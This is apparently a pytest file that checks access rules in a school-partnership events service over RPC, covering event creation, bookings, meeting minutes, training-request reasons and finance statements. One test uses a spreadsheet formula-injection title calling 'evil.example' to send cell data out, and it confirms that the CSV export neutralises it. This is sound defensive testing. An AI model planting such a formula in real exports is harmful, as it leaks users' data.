"""Issue 10 in the events service: each refusal decided by the service itself, whoever calls it
over RPC (the gateway's early checks are gone), with the caller every RPC now receives."""

from datetime import datetime

import pytest

from contracts.caller import Caller
from contracts.errors import Forbidden, Unauthorized
from contracts.school_year import term_of
from events.storage import CpdEvent

from .conftest import ASKED_BY, COORD, as_

CPD_OWNER = {"type": "strategic_group", "id": "cpd", "name": "CPD group"}
SERVICE = Caller.service("events").dump()


def test_a_teacher_creating_an_event_is_refused_by_the_service(events_service, rpc, new_event):
    with pytest.raises(Forbidden):
        rpc.events.create_event(new_event(title="By a teacher"), caller=as_("teacher-a"))
    with pytest.raises(Forbidden):  # a headteacher is no organiser either
        rpc.events.create_event(new_event(title="By a head"), caller=as_("head-a"))
    with pytest.raises(Unauthorized):
        rpc.events.create_event(new_event(title="By nobody"))
    with pytest.raises(Forbidden):  # a teacher naming a group they do not chair
        rpc.events.create_event(new_event(title="Group", owner=CPD_OWNER), caller=as_("teacher-a"))
    assert CpdEvent.objects.count() == 0

    by_chair = rpc.events.create_event(
        new_event(title="CPD group event", owner=CPD_OWNER), caller=as_("chair-cpd")
    )
    assert by_chair["created_by"] == "chair-cpd"
    with pytest.raises(Forbidden):  # a member of the group is not one of its officers
        rpc.events.update_event(by_chair["id"], {"capacity": 9}, caller=as_("member-cpd"))
    assert rpc.events.update_event(by_chair["id"], {"capacity": 9}, caller=as_("chair-cpd"))
    with pytest.raises(Forbidden):  # the chair of one group does not run the partnership's
        partnership = rpc.events.create_event(new_event(title="Partnership"), caller=COORD)
        rpc.events.cancel_event(partnership["id"], {}, caller=as_("chair-cpd"))
    with pytest.raises(Forbidden):
        rpc.events.list_event_bookings(by_chair["id"], {}, caller=as_("teacher-a"))
    assert rpc.events.list_event_bookings(by_chair["id"], {}, caller=as_("chair-cpd"))
    # the directory was asked who chairs the group as the events service, not as the caller
    assert ASKED_BY and all(asked == SERVICE for asked in ASKED_BY)


def test_booking_someone_else_is_for_their_school_leaders_and_the_coordinator(
    events_service, rpc, new_event
):
    event = rpc.events.create_event(new_event(capacity=10), caller=COORD)

    def book(person, who):
        return rpc.events.book_place({"event_id": event["id"], "person_id": person}, caller=who)

    with pytest.raises(Forbidden):  # a teacher booking another school's teacher
        book("teacher-b", as_("teacher-a"))
    with pytest.raises(Forbidden):  # ... or a colleague
        book("teacher-a2", as_("teacher-a"))
    with pytest.raises(Forbidden):  # a school administrator booking another school's staff
        book("teacher-b", as_("admin-a"))
    with pytest.raises(Forbidden):  # a service acting on its own account books nobody
        book("teacher-b", SERVICE)
    with pytest.raises(Unauthorized):
        book("teacher-b", None)
    by_admin = book("teacher-a2", as_("admin-a"))
    assert (by_admin["booked_by"], by_admin["school_urn"]) == ("admin-a", 100)
    by_coordinator = book("teacher-b", COORD)
    assert (by_coordinator["booked_by"], by_coordinator["school_urn"]) == ("coord", 200)
    mine = rpc.events.book_place({"event_id": event["id"]}, caller=as_("teacher-c"))
    assert (mine["person_id"], mine["booked_by"], mine["school_urn"]) == (
        "teacher-c",
        "teacher-c",
        300,
    )

    with pytest.raises(Forbidden):  # another school's head reads nobody's booking of ours
        rpc.events.get_booking(by_admin["id"], caller=as_("head-b"))
    assert rpc.events.get_booking(by_admin["id"], caller=as_("head-a"))["id"] == by_admin["id"]
    with pytest.raises(Forbidden):
        rpc.events.cancel_booking(by_admin["id"], caller=as_("head-a"))
    mine_only = rpc.events.list_bookings({}, caller=as_("teacher-a2"))
    assert [b["id"] for b in mine_only["items"]] == [by_admin["id"]]


def test_minutes_are_for_the_meetings_cluster_its_group_and_the_partnership(
    events_service, rpc, new_event
):
    rota = rpc.events.create_rota(
        {"cluster": "North", "academic_year": 2027, "year_groups": ["Year 5"]}, caller=COORD
    )
    meeting = rota["meetings"][0]
    rpc.events.publish_minutes(meeting["id"], {"minutes": "North business."}, caller=COORD)

    with pytest.raises(Forbidden):  # a teacher of a South school reading North's minutes
        rpc.events.get_minutes(meeting["id"], caller=as_("teacher-d"))
    with pytest.raises(Forbidden):  # the CPD group does not own a cluster meeting
        rpc.events.get_minutes(meeting["id"], caller=as_("member-cpd"))
    with pytest.raises(Unauthorized):
        rpc.events.get_minutes(meeting["id"])
    for reader in ("teacher-b", "head-a", "la"):
        assert rpc.events.get_minutes(meeting["id"], caller=as_(reader))["minutes"]

    group_meeting = rpc.events.create_event(
        new_event(title="CPD group meeting", kind="group_meeting", owner=CPD_OWNER),
        caller=as_("chair-cpd"),
    )
    rpc.events.publish_minutes(group_meeting["id"], {"minutes": "CPD."}, caller=COORD)
    assert rpc.events.get_minutes(group_meeting["id"], caller=as_("member-cpd"))["minutes"]
    with pytest.raises(Forbidden):
        rpc.events.get_minutes(group_meeting["id"], caller=as_("teacher-a"))

    course = rpc.events.create_event(new_event(title="Not a meeting"), caller=COORD)
    with pytest.raises(Forbidden):  # nobody's meeting: only the partnership roles
        rpc.events.get_minutes(course["id"], caller=as_("teacher-a"))


def test_training_request_reasons_are_shown_only_to_those_who_need_them(events_service, rpc):
    asked = rpc.events.submit_training_request(
        {"topic": "Attachment", "phase": "Primary", "reason": "A child in my class"},
        caller=as_("teacher-a"),
    )
    assert asked["reason"] == "A child in my class"

    def reason_seen_by(person):
        items = rpc.events.list_training_requests({}, caller=as_(person))["items"]
        return [row["reason"] for row in items if row["id"] == asked["id"]][0]

    for reader in ("teacher-a", "head-a", "member-cpd", "chair-cpd", "coord", "la"):
        assert reason_seen_by(reader) == "A child in my class", reader
    for outsider in ("teacher-a2", "admin-a", "deputy-a", "head-b", "teacher-d"):
        assert reason_seen_by(outsider) is None, outsider
    supported = rpc.events.support_training_request(asked["id"], caller=as_("teacher-d"))
    assert supported["reason"] is None and supported["supporters"] == ["teacher-d"]
    with pytest.raises(Unauthorized):
        rpc.events.list_training_requests({})


def test_a_year_group_audience_refuses_a_person_with_no_year_groups(events_service, rpc, new_event):
    event = rpc.events.create_event(
        new_event(capacity=5, audience={"year_groups": ["Year 2"]}), caller=COORD
    )
    with pytest.raises(Forbidden) as refused:
        rpc.events.book_place({"event_id": event["id"]}, caller=as_("teacher-a"))
    assert "person_id" in refused.value.fields
    booked = rpc.events.book_place({"event_id": event["id"]}, caller=as_("year2-a"))
    assert booked["status"] == "confirmed"


def test_the_statement_csv_neutralises_formulas_and_is_for_the_schools_finance_people(
    events_service, rpc, new_event
):
    title = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
    event = rpc.events.create_event(
        new_event(title=title, pricing={"price_pence": 2500, "by_type_group": {}}), caller=COORD
    )
    rpc.events.book_place({"event_id": event["id"]}, caller=as_("teacher-a"))
    term = {"term": term_of(datetime.fromisoformat(event["sessions"][0]["starts_at"])).name}

    text = rpc.events.school_statement_csv(100, term, caller=as_("head-a"))
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    for outsider in ("teacher-a", "deputy-a", "head-b"):
        with pytest.raises(Forbidden):
            rpc.events.school_statement_csv(100, term, caller=as_(outsider))
        with pytest.raises(Forbidden):
            rpc.events.school_statement(100, term, caller=as_(outsider))
    assert rpc.events.school_statement(100, term, caller=as_("la"))["total_pence"] == 2500
